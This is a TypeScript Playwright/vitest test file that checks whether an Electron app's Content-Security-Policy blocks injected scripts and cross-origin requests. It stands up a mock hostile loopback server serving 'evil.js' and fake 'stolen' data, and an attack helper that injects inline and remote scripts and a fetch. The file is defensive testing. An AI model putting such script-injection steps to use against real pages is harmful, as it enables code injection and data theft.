import { readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { extname, join } from 'node:path';
import type { Session } from 'electron';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHost, type RunningHost } from '../../src-main/host/host-server';
import { createHandlers } from '../../src-main/rpc/create-handlers';
import { createDispatch } from '../../src-main/rpc/dispatch';
import { lockDownSession } from '../../src-main/window-security';
import { launchChromium, type ChromiumProfile } from '../support/chromium';

const rendererDir = join(import.meta.dirname, '..', '..', 'out', 'renderer');

/** Another loopback origin, as a hostile local server would be: it records every request that reaches it. */
function startOtherOrigin(): Promise<{ origin: string; requests: string[]; server: Server }> {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('content-type', request.url?.endsWith('.js') ? 'text/javascript' : 'application/json');
    response.end(request.url?.endsWith('.js') ? 'window.__remoteRan = true;' : '{"stolen":true}');
  });
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => resolve({ origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests, server })),
  );
}

/** The header the Electron window's session adds to every response, taken from lockDownSession itself. */
function electronWindowPolicy(): string {
  let policy: string | undefined;
  const session = {
    setPermissionRequestHandler: () => undefined,
    setPermissionCheckHandler: () => undefined,
    webRequest: {
      onHeadersReceived: (handler: (details: { responseHeaders: Record<string, string[]> }, callback: (answer: { responseHeaders: Record<string, string[]> }) => void) => void) =>
        handler({ responseHeaders: {} }, (answer) => (policy = answer.responseHeaders['Content-Security-Policy']?.[0])),
    },
  };
  lockDownSession(session as unknown as Session);
  if (policy === undefined) throw new Error('lockDownSession set no Content-Security-Policy');
  return policy;
}

/**
 * The built files with the header the Electron session adds. The page's own CSP meta tag is taken
 * out, so what is blocked here is blocked by that header alone.
 */
function startWindowLikeServer(policy: string): Promise<{ origin: string; server: Server }> {
  const types: Record<string, string> = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.svg': 'image/svg+xml' };
  const server = createServer((request, response) => {
    const path = request.url === '/' ? '/index.html' : (request.url ?? '/').split('?')[0]!;
    readFile(join(rendererDir, path.replace(/\.\./g, ''))).then(
      (body) => {
        response.setHeader('content-security-policy', policy);
        response.setHeader('content-type', types[extname(path)] ?? 'application/octet-stream');
        if (extname(path) !== '.html') return response.end(body);
        const page = body.toString('utf8');
        const withoutMeta = page.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
        if (withoutMeta === page) throw new Error('the built page has no CSP meta tag to take out');
        response.end(withoutMeta);
      },
      () => {
        response.statusCode = 404;
        response.end();
      },
    );
  });
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => resolve({ origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server })),
  );
}

interface Violation {
  directive: string;
  blocked: string;
}

/** Collects every securitypolicyviolation from the first script on, including the app's own start. */
async function watchViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const seen: Array<{ directive: string; blocked: string }> = [];
    (window as unknown as { __violations: typeof seen }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (event) => seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));
  });
}

/** Tries what an injected attacker would: inline script, a script and a fetch from another origin. */
async function attack(page: Page, otherOrigin: string): Promise<{ violations: Violation[]; inlineRan: boolean; remoteRan: boolean; fetched: string }> {
  return page.evaluate(async (other) => {
    const state = window as unknown as { __violations: Violation[]; __inlineRan?: boolean; __remoteRan?: boolean };
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true;';
    document.body.append(inline);
    const remote = document.createElement('script');
    remote.src = `${other}/evil.js`;
    const remoteDone = new Promise((resolve) => ((remote.onerror = resolve), (remote.onload = resolve)));
    document.body.append(remote);
    await remoteDone;
    const fetched = await fetch(`${other}/data`).then(
      (response) => `answered ${response.status}`,
      (error: Error) => `refused: ${error.name}`,
    );
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { violations: state.__violations, inlineRan: state.__inlineRan === true, remoteRan: state.__remoteRan === true, fetched };
  }, otherOrigin);
}

function expectBlocked(result: Awaited<ReturnType<typeof attack>>, otherOrigin: string): void {
  expect(result.inlineRan).toBe(false);
  expect(result.remoteRan).toBe(false);
  expect(result.fetched).toBe('refused: TypeError');
  expect(result.violations).toEqual(
    expect.arrayContaining([
      { directive: 'script-src-elem', blocked: 'inline' },
      { directive: 'script-src-elem', blocked: `${otherOrigin}/evil.js` },
      { directive: 'connect-src', blocked: `${otherOrigin}/data` },
    ]),
  );
}

let browser: ChromiumProfile;
let other: Awaited<ReturnType<typeof startOtherOrigin>>;
beforeAll(async () => {
  browser = await launchChromium();
  other = await startOtherOrigin();
});
afterAll(async () => {
  await browser?.close();
  other?.server.close();
});

describe('the content-security policy, in Chromium', () => {
  describe('browser mode (the host serving the built app)', () => {
    let host: RunningHost;
    beforeAll(async () => {
      const dataDir = await (await import('node:fs/promises')).mkdtemp(join((await import('node:os')).tmpdir(), 'reskontra-csp-'));
      const handlers = createHandlers({ name: 'Reskontra', version: 'test', transport: 'browser', dataDir });
      host = await startHost({ dispatch: createDispatch(handlers), token: 'csp-test-token-0123456789', rendererDir });
    });
    afterAll(async () => {
      await host?.close();
    });

    it('lets the app load, and blocks inline script and other origins', async () => {
      const page = await browser.context.newPage();
      await watchViolations(page);
      await page.goto(host.url);
      await expect.poll(() => page.getByRole('heading', { level: 1 }).textContent()).toBe('Dashboard');
      expect(await page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations)).toEqual([]);

      const result = await attack(page, other.origin);
      expectBlocked(result, other.origin);
      expect(other.requests).toEqual([]);
      await page.close();
    });
  });

  describe('the Electron window (the header lockDownSession sets, on the built page)', () => {
    let window: Awaited<ReturnType<typeof startWindowLikeServer>>;
    beforeAll(async () => {
      window = await startWindowLikeServer(electronWindowPolicy());
    });
    afterAll(() => {
      window?.server.close();
    });

    it('lets the page start, and blocks inline script and other origins', async () => {
      const page = await browser.context.newPage();
      await watchViolations(page);
      await page.goto(`${window.origin}/`);
      // Without the preload (Electron) or a token (browser mode) the app still starts and says so.
      await expect.poll(() => page.locator('#app').evaluate((app) => app.childElementCount)).toBeGreaterThan(0);
      expect(await page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations)).toEqual([]);

      const result = await attack(page, other.origin);
      expectBlocked(result, other.origin);
      expect(other.requests).toEqual([]);
      await page.close();
    });
  });
});
